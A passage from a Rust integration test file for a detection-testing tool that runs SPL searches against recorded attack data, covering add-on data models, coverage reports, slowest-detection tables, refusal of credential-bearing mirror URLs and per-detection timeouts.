        "| tstats count from datamodel=Acme_Web.Denied where Access.area=admin by Access.src | rename Access.src as src | where count >= 2",
    );
    let access = detection(
        "Acme Admin Access",
        "| tstats count from datamodel=Acme_Web.Access where Access.area=admin by Access.src | rename Access.src as src",
    );
    let apps = dir.join("apps");
    let out = firedrill()
        .arg("run")
        .arg(&denied)
        .arg(&access)
        .arg("--data")
        .arg(&cache)
        .args([
            "--offline",
            "--format",
            "json",
            "--show-results",
            "5",
            "--addons",
        ])
        .arg(&apps)
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let by_name = |n: &str| {
        json["detections"]
            .as_array()
            .unwrap()
            .iter()
            .find(|d| d["name"] == n)
            .unwrap_or_else(|| panic!("{n}: {json}"))
            .clone()
    };
    let d = by_name("Acme Admin Denied");
    assert_eq!(d["status"], "pass", "{d}");
    let t = &d["tests"][0];
    assert_eq!(t["results"], 1, "{t}");
    assert_eq!(t["rows"][0]["src"], "10.0.0.5", "{t}");
    assert_eq!(t["rows"][0]["count"], "2", "{t}");
    let t = &by_name("Acme Admin Access")["tests"][0];
    assert_eq!(t["results"], 2, "{t}");
    // Without the add-on the data model is not defined: an error that says so.
    let out = firedrill()
        .arg("run")
        .arg(&denied)
        .arg("--data")
        .arg(&cache)
        .args(["--offline", "--format", "json"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let d = &json["detections"][0];
    assert_eq!(d["status"], "error", "{d}");
    assert!(d.to_string().contains("Acme_Web.Denied"), "{d}");
    // Coverage names the file that defines the model.
    let out = firedrill()
        .args(["coverage", "--format", "json"])
        .arg(&denied)
        .arg("--addons")
        .arg(&apps)
        .output()
        .unwrap();
    let cov: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let from = cov["detections"][0]["datamodels_from"]["Acme_Web.Denied"]
        .as_str()
        .unwrap_or_else(|| panic!("{cov}"));
    assert!(
        from.ends_with("TA-acme-web/default/data/models/Acme_Web.json"),
        "{from}"
    );
    assert_eq!(cov["detections"][0]["data_covered"], true, "{cov}");
}

/// Past ten detections the table names the three slowest detections and datasets.
#[test]
fn the_table_names_the_slowest_detections_and_datasets() {
    let (dir, det) = workdir();
    let text = std::fs::read_to_string(&det).unwrap();
    for i in 0..11 {
        let copy = text
            .replacen("name: ", &format!("name: Copy {i} of "), 1)
            .replacen("id: ", &format!("id: {i:02}"), 1);
        std::fs::write(det.with_file_name(format!("copy_{i}.yml")), copy).unwrap();
    }
    std::fs::remove_file(&det).unwrap();
    let out = firedrill()
        .arg("run")
        .arg(dir.path().join("content"))
        .args(["--data", "examples/attack_data", "--offline"])
        .output()
        .unwrap();
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(table.contains("\nslowest: Copy "), "{table}");
    assert!(table.contains("\nslowest datasets: windows-"), "{table}");
}

/// A mirror URL with credentials is refused before anything is fetched, without
/// printing them (every download error would carry the URL).
#[test]
fn a_mirror_url_with_credentials_is_refused() {
    let (_dir, det) = workdir();
    let out = firedrill()
        .arg("run")
        .arg(&det)
        .args(["--mirror", "https://user:S3CRET@mirror.example/attack_data"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(
        text.contains("--mirror") && text.contains("credentials"),
        "{text}"
    );
    assert!(!text.contains("S3CRET"), "{text}");
}

/// A test whose rows take longer than `--detection-timeout` is stopped as an error of
/// that detection alone; the run still reports every detection.
#[test]
fn a_detection_over_its_time_budget_is_an_error() {
    let out = firedrill()
        .args([
            "run",
            "examples",
            "--data",
            "examples/attack_data",
            "--offline",
        ])
        .args(["--format", "json", "--detection-timeout", "0.000000001"])
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let dets = json["detections"].as_array().unwrap();
    assert_eq!(dets.len(), 4);
    let stopped: Vec<&serde_json::Value> = dets
        .iter()
        .filter(|d| {
            d["reason"]
                .as_str()
                .is_some_and(|r| r.contains("--detection-timeout"))
        })
        .collect();
    assert!(!stopped.is_empty(), "{json}");
    assert!(stopped.iter().all(|d| d["status"] == "error"), "{json}");
    assert_eq!(out.status.code(), Some(1));
    // A budget spent in the commands after the events (here: a million generated
    // rows) stops the search before its next command, with a caret on it.
    let dir = tempfile::tempdir().unwrap();
    let det = dir.path().join("detections");
    std::fs::create_dir_all(&det).unwrap();
    let text = std::fs::read_to_string("examples/detections/endpoint/example_comsvcs_minidump.yml")
        .unwrap();
    let text = common::replace_search(
        &text,
        "search: '| makeresults count=300000 | streamstats count AS n | eval x=n % 7 | stats count BY x'",
    );
    std::fs::write(det.join("slow.yml"), text).unwrap();
    let run = |budget: &str| {
        let out = firedrill()
            .arg("run")
            .arg(dir.path())
            .args([
                "--data",
                "examples/attack_data",
                "--offline",
                "--format",
                "json",
            ])
            .args(["--detection-timeout", budget])
            .output()
            .unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        json["detections"][0]["tests"][0].clone()
    };
    let t = run("0.001");
    assert_eq!(t["status"], "error", "{t}");
    let reason = t["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("stopped: its search took more than the 0.001 s")
            && reason.contains("out of time before this command")
            && reason.contains('^'),
        "{reason}"
    );
    assert_ne!(run("0")["status"], "error");
    // Without the limit (0), the same run passes.
    firedrill()
        .args([
            "run",
            "examples",
            "--data",
            "examples/attack_data",
            "--offline",
        ])
        .args([
            "--expectations",
            "examples/expectations",
            "--detection-timeout",
            "0",
        ])
        .assert()
        .code(0);
}
